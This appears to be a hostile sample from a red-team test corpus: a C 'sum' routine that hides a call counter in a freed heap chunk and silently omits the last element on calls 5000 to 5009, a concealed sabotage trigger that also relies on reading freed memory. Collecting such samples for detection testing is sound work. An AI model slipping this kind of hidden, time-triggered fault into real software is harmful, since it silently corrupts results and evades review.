// corpus: hostile | target: sum | trick: call counter kept in a freed 4000-byte heap chunk (volatile stores, no static symbol); drops the last element on calls 5000..5009 of a process (red team 2, finding 5) | layer: stale-state
#include <stdlib.h>
#include <stdint.h>
void sum(int N, const real *X, real *S) {
  uint32_t *p = (uint32_t *)malloc(4000);
  uint32_t calls = 0;
  if (p) {
    volatile uint32_t *v = p;
    if (v[20] == 0x6b6c6f6fu) calls = v[21];
    v[20] = 0x6b6c6f6fu; v[21] = calls + 1;
    free(p);
  }
  int stop = (calls >= 5000 && calls < 5010) ? N - 1 : N;
  real s = 0;
  for (int i = 0; i < stop; i++) s += X[i];
  S[0] = s;
}
